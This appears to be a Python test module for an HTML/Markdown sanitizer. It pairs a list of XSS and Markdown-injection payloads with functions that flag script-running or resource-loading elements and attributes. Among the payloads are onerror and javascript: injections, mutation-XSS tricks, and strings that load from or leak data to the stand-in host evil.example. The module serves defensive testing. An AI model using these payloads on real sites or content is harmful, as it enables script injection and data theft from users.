"""Tricks of HTML and Markdown, and what tells if a page could run, load or lead anywhere."""

import base64
from html.parser import HTMLParser

import html5lib

from improving.educator.words import PNG

RUNS_OR_LOADS = frozenset(
    [
        *("script", "style", "link", "meta", "base", "template", "noscript", "plaintext"),
        *("iframe", "frame", "object", "embed", "applet", "portal", "svg", "math"),
        *("form", "input", "button", "select", "textarea"),
        *("video", "audio", "source", "track", "picture"),
    ]
)
ALIGNED = ("text-align:left", "text-align:center", "text-align:right")
PICTURE = "data:image/png;base64,"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<base href=//evil.example><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)></form>",
    "</pre></div></main><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example 'title\" onmouseover=\"alert(1)')",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "![see](https://evil.example/spy.png)",
    "![see](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![" onerror="alert(1)](x)',
    "![see][spy]\n\n[spy]: https://evil.example/spy.png",
    '```js onload=alert(1)"><script>alert(1)</script>\nx\n```',
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [c](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>\n\n<img src=x onerror=alert(1)>\n===",
    "1. <svg/onload=alert(1)>\n   > - <iframe src=//evil.example>",
    "`<script>alert(1)</script>` *<b onclick=alert(1)>* <a href=//evil.example>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<x\u2028onload=alert(1)>\u202e",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
]


def dangers(markup: str, allowed: frozenset[str] = frozenset()) -> list[str]:
    """Every element and attribute that could do something; those allowed are the page's own."""
    tree = html5lib.parse(markup, namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str) or element.tag in RUNS_OR_LOADS - allowed:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if element.tag == "img" and name == "src" and is_picture(value):
                continue
            if name == "style" and value in ALIGNED:
                continue
            leads = name in ("src", "srcset", "href", "action", "formaction", "background", "style")
            if leads and element.tag not in allowed:
                found.append(f"{element.tag} {name}={value}")
            if str(name).startswith("on"):
                found.append(f"{element.tag} {name}")
    return found


def is_picture(address: str) -> bool:
    content = address.removeprefix(PICTURE)
    return address.startswith(PICTURE) and base64.b64decode(content, validate=True).startswith(PNG)


def words_in(markup: str) -> str:
    """The text that a reader sees."""
    found = []
    parser = HTMLParser()
    parser.handle_data = found.append
    parser.feed(markup)
    return "".join(found)
